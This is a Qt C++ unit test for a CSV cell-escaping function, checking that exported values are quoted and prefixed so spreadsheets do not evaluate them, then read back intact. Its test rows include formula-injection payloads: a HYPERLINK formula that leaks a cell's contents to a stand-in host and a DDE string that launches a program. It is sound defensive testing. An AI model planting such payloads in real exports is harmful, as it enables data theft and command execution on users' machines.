// SPDX-FileCopyrightText: 2026 Leadline contributors
// SPDX-License-Identifier: Apache-2.0

// A table that goes out and comes in again: no spreadsheet computes what a publisher wrote, and no word of it
// is lost.
#include <app/csvcell.h>
#include <ingest/files/tablefile.h>

#include <QTest>

class CsvCellTest final : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void cells_data();
    void cells();
};

void CsvCellTest::cells_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QByteArray>("cell");
    const auto row = [](const char* text, const char* cell) {
        QTest::newRow(text) << QByteArray(text) << QByteArray(cell);
    };
    row("Copper falls", "Copper falls");
    row("Copper, tin", "\"Copper, tin\"");
    row("He said \"no\"", "\"He said \"\"no\"\"\"");
    row("=1+1", "'=1+1");
    row("=HYPERLINK(\"http://h.example/?x=\"&A1,\"look\")",
        "\"'=HYPERLINK(\"\"http://h.example/?x=\"\"&A1,\"\"look\"\")\"");
    row("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0");
    row("-1+1", "'-1+1");
    row("@SUM(1)", "'@SUM(1)");
    row("\uFF1D1+1", "'\uFF1D1+1");
    row("\uFF0B1+A1", "'\uFF0B1+A1");
    row("'=1+1", "''=1+1");
    row("- a list", "'- a list");
    row("-3.5", "-3.5");
    row("+12", "+12");
    row("1-2", "1-2");
    row("'Quoted' words", "'Quoted' words");
    row("-", "'-");
    row("-1.2.3", "'-1.2.3");
    row(";=1+1", "\";=1+1\"");
}

void CsvCellTest::cells()
{
    QFETCH(QByteArray, text);
    QFETCH(QByteArray, cell);
    const std::string written = app::csvCell(text.toStdString());
    QCOMPARE(QByteArray::fromStdString(written), cell);
    const std::string table = "id,title,body\n" + written + ",Title,Body\n2,Other,Words\n";
    const auto list = ingest::readTable(table, ingest::guessTable(table).mapping);
    QVERIFY(list);
    QCOMPARE(QByteArray::fromStdString(list->articles.front().guid), text);
}

QTEST_APPLESS_MAIN(CsvCellTest)
#include "csvcell_test.moc"
